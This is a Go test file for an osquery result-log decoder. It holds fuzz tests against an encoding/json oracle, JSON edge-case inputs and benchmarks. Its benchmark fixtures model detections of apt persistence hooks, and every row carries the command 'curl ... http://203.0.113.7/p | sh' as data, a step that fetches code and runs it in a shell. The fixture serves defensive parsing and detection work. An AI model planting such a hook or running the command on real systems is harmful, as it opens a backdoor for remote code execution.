package osqwire

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"reflect"
	"strings"
	"testing"
	"testing/iotest"
)

// normal is the oracle's line in the reader's form: a time or counter as
// its text, or bad where text() refuses it.
func (o *oracleLine) normal() *line {
	sc := func(raw json.RawMessage) scalar {
		s, err := text(raw)
		return scalar{text: s, bad: err != nil}
	}
	return &line{Name: o.Name, HostIdentifier: o.HostIdentifier, Action: o.Action,
		UnixTime: sc(o.UnixTime), Epoch: sc(o.Epoch), Counter: sc(o.Counter),
		Columns: o.Columns, Decorations: o.Decorations,
		Snapshot: o.Snapshot, Added: o.Added, Removed: o.Removed, diff: o.diff,
		Severity: sc(o.Severity), Line: sc(o.Line),
		Filename: o.Filename, Message: o.Message, Version: o.Version}
}

// sources are the ways a line reaches the reader: whole, one byte per
// read (every token crosses a refill), and as a stream of large reads.
func sources(data []byte) map[string]*decoder {
	return map[string]*decoder{
		"bytes":    {buf: data},
		"one byte": {src: iotest.OneByteReader(bytes.NewReader(data))},
		"stream":   {src: bytes.NewReader(data)},
		"chunks":   {src: &chunkReader{data, 2 + len(data)%7}},
	}
}

// chunkReader reads at most n bytes at a time, so that tokens cross
// refills at every offset.
type chunkReader struct {
	data []byte
	n    int
}

func (r *chunkReader) Read(p []byte) (int, error) {
	if len(r.data) == 0 {
		return 0, io.EOF
	}
	n := copy(p[:min(len(p), r.n)], r.data)
	r.data = r.data[n:]
	return n, nil
}

// sameAsOracle checks the reader against the oracle on one line: both
// refuse it, both stop at the row limit, or both read the same line.
func sameAsOracle(t *testing.T, data []byte, maxRows int) {
	t.Helper()
	want, wantErr := oracleReadLine(bytes.NewReader(data), maxRows)
	var wantLimit *RowLimitError
	errors.As(wantErr, &wantLimit)
	for how, d := range sources(data) {
		got, err := readLine(d, maxRows)
		var limit *RowLimitError
		errors.As(err, &limit)
		switch {
		case (err == nil) != (wantErr == nil):
			t.Fatalf("%s, %d rows at most: %q\nreader: %v\noracle: %v", how, maxRows, data, err, wantErr)
		case !reflect.DeepEqual(limit, wantLimit):
			t.Fatalf("%s, %d rows at most: %q\nreader: %v\noracle: %v", how, maxRows, data, err, wantErr)
		case err == nil && !reflect.DeepEqual(got, want.normal()):
			t.Fatalf("%s: %q\nreader: %#v\noracle: %#v", how, data, got, want.normal())
		}
	}
}

// FuzzLineAgainstOracle: the single-pass reader accepts exactly the lines
// the encoding/json decoder it replaced accepts, reads them the same, and
// stops at the row limit where that one did.
func FuzzLineAgainstOracle(f *testing.F) {
	for _, name := range []string{"log-events.json", "log-batch.json", "log-snapshot.json", "log-snapshot-events.json", "log-status.json"} {
		var r rawLog
		if err := json.Unmarshal(load(f, name), &r); err != nil {
			f.Fatal(err)
		}
		for _, item := range r.Data {
			f.Add([]byte(item), uint8(255))
		}
	}
	for _, l := range benchLines() {
		f.Add(l.data, uint8(2))
	}
	f.Fuzz(func(t *testing.T, data []byte, maxRows uint8) {
		sameAsOracle(t, data, int(maxRows%8))
	})
}

// edgeLines are the corners of JSON the reader must treat as
// encoding/json does.
func edgeLines() []string {
	deep := func(n int, inner string) string {
		return strings.Repeat("[", n) + inner + strings.Repeat("]", n)
	}
	return []string{
		``, ` `, `{}`, ` {} `, "{}\x00", `{}{}`, `{} x`, `[]`, `null`, `1`, `"x"`, `"{}"`, `"{\"name\":\"q\"}" `, `"{}" {}`,
		`"\"{\\\"name\\\":\\\"q\\\"}\""`,
		`{"name":"q"}`, `{"name":null}`, `{"name":1}`, `{"name":"q","name":"q"}`, `{"name":"q","n\u0061me":"r"}`,
		`{"x":1,"x":2}`, `{"x":1,"y":2,"x\/":3}`, `{"name":"q",}`, `{,"name":"q"}`, `{"name" "q"}`, `{"name":"q" "action":"added"}`,
		`{"unixTime":"12"}`, `{"unixTime":1.5e3}`, `{"unixTime":-0}`, `{"unixTime":01}`, `{"unixTime":-}`, `{"unixTime":1.}`, `{"unixTime":1e}`, `{"unixTime":1e+}`,
		`{"unixTime":{}}`, `{"unixTime":[1,{"a":[]}]}`, `{"unixTime":tru}`, `{"unixTime":true}`, `{"unixTime":nul}`, `{"unixTime":null}`,
		`{"columns":null}`, `{"columns":{}}`, `{"columns":[]}`, `{"columns":"x"}`, `{"columns":{"a":null,"b":1,"c":true,"d":false,"e":-1.5E-3}}`,
		`{"columns":{"a":{}}}`, `{"columns":{"a":{},"a":"x"}}`, `{"columns":{"a":"x","a":[]}}`, `{"columns":{"a":"x","a":"y"}}`,
		`{"decorations":{"a":[]}}`, `{"decorations":null}`,
		`{"snapshot":null}`, `{"snapshot":[]}`, `{"snapshot":[null]}`, `{"snapshot":[{},]}`, `{"snapshot":[,{}]}`, `{"snapshot":[{} {}]}`, `{"snapshot":[{}}`, `{"snapshot":{}}`,
		`{"snapshot":[{},{},{}]}`, `{"snapshot":[{},{},{"a":{}}]}`, `{"snapshot":[{},{},1]}`, `{"snapshot":[{},{},{"a":1}}]}`, `{"snapshot":[{},{},{},x]}`,
		`{"diffResults":null}`, `{"diffResults":{}}`, `{"diffResults":[]}`, `{"diffResults":{"added":[{}],"added":null}}`, `{"diffResults":{"added":[{},{}],"removed":[{},{}]}}`,
		`{"diffResults":{"x":{"y":[1,2,{}]},"added":[]}}`, `{"diffResults":{"added":[]]}`,
		`{"message":"a\"b\\c\/d\be\ff\ng\rh\ti"}`, `{"message":"\u00e9\ud83d\ude00\ud800\udc00x\ud800\u0041\udc00"}`, `{"message":"\ud800\ud800"}`,
		"{\"message\":\"\xff\xfe\xed\xa0\x80 \xe2\x82\"}", "{\"message\":\"\xff\\n\"}", "{\"message\":\"a\x01\"}", "{\"message\":\"a\x7f\"}",
		`{"message":"\x"}`, `{"message":"\u12"}`, `{"message":"\u12g4"}`, `{"message":"\'"}`, `{"message":"abc`, `{"message":"abc\`,
		"{\"\xff\":1,\"\xfe\":2}", `{"\ud800":1,"\udc00":2}`,
		`{"x":` + deep(10000, "") + `}`, `{"x":` + deep(10001, "") + `}`,
		`{"columns":{"a":` + deep(9999, "") + `,"a":"x"}}`, `{"columns":{"a":` + deep(10000, "") + `,"a":"x"}}`,
		`{"diffResults":{"x":` + deep(10000, "1") + `}}`, `{"diffResults":{"x":` + deep(10001, "1") + `}}`,
		`{"snapshot":[{"a":` + deep(9999, "") + `}]}`, `{"snapshot":[{"a":` + deep(10000, "") + `}]}`,
		"{\t\"name\"\r:\n\"q\" }\r\n", "{\"name\":\"q\"}\v", "\ufeff{}",
	}
}

// TestLineEdges: each edge line against the oracle, with row limits.
func TestLineEdges(t *testing.T) {
	for _, s := range edgeLines() {
		for _, max := range []int{0, 1, 2, 10} {
			sameAsOracle(t, []byte(s), max)
		}
	}
	for _, l := range benchLines() {
		sameAsOracle(t, l.data, MaxRows)
	}
}

// TestReadError: a read error inside a line is the line's error, and
// nothing of the line is returned.
func TestReadError(t *testing.T) {
	boom := errors.New("boom")
	for _, l := range benchLines() {
		for cut := 0; cut < len(l.data); cut += 1 + cut/8 {
			rs, err := ReadResultLine(io.MultiReader(bytes.NewReader(l.data[:cut]), iotest.ErrReader(boom)), MaxRows)
			if !errors.Is(err, boom) || rs != nil {
				t.Fatalf("%s cut at %d: %v %v", l.name, cut, rs, err)
			}
		}
	}
}

// TestLineEntryPoints: the slice and stream entry points read the same.
func TestLineEntryPoints(t *testing.T) {
	for _, l := range benchLines() {
		a, err := DecodeResultLine(l.data)
		if err != nil {
			t.Fatal(err)
		}
		b, err := ReadResultLine(iotest.HalfReader(bytes.NewReader(l.data)), MaxRows)
		if err != nil || !reflect.DeepEqual(a, b) || len(a) != l.rows {
			t.Errorf("%s: %d rows and %d rows (%v), want %d", l.name, len(a), len(b), err, l.rows)
		}
	}
}

type benchLine struct {
	name string
	data []byte
	rows int
}

// benchLines are lines as osqueryd writes them: an event of eight
// columns, a batch of added and removed rows, a snapshot of 100 rows.
func benchLines() []benchLine {
	head := `"hostIdentifier":"web1.example.net","calendarTime":"Mon Nov 24 10:00:00 2026 UTC","unixTime":1795377600,"epoch":0,"counter":3,"numerics":false,` +
		`"decorations":{"host_uuid":"4C4C4544-0031-3510-8052-B4C04F4E3732","hostname":"web1"}`
	row := func(i int) string {
		return fmt.Sprintf(`{"path":"/etc/apt/apt.conf.d/%02dhook","line":"%d","key":"DPkg::Post-Invoke","command":"curl -fsS \"http://203.0.113.7/p\" | sh",`+
			`"package":"","owned":"0","mtime":"%d","sha256":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}`, i, i+1, 1795377000+i)
	}
	rows := func(from, n int) string {
		var s []string
		for i := range n {
			s = append(s, row(from+i))
		}
		return "[" + strings.Join(s, ",") + "]"
	}
	return []benchLine{
		{"event", []byte(`{"name":"pack_pkgpersist_unowned-hooks",` + head + `,"columns":` + row(99) + `,"action":"added"}`), 1},
		{"batch", []byte(`{"name":"pack_pkgpersist_unowned-hooks",` + head + `,"diffResults":{"added":` + rows(0, 3) + `,"removed":` + rows(3, 2) + `}}`), 5},
		{"snapshot", []byte(`{"name":"pack_pkgpersist_hooks-inventory",` + head + `,"snapshot":` + rows(0, 100) + `,"action":"snapshot"}`), 100},
	}
}

// BenchmarkDecodeResultLine: the reader and the oracle on the same lines;
// the oracle's sub-benchmark reports how many times slower it is.
func BenchmarkDecodeResultLine(b *testing.B) {
	for _, l := range benchLines() {
		var readerNs float64
		b.Run(l.name+"/reader", func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(l.data)))
			for b.Loop() {
				if _, err := DecodeResultLine(l.data); err != nil {
					b.Fatal(err)
				}
			}
			readerNs = float64(b.Elapsed()) / float64(b.N)
		})
		b.Run(l.name+"/oracle", func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(l.data)))
			for b.Loop() {
				ol, err := oracleReadLine(bytes.NewReader(l.data), MaxRows)
				if err != nil {
					b.Fatal(err)
				}
				if _, err := results(ol.normal()); err != nil {
					b.Fatal(err)
				}
			}
			if readerNs > 0 {
				b.ReportMetric(float64(b.Elapsed())/float64(b.N)/readerNs, "x-reader")
			}
		})
	}
}
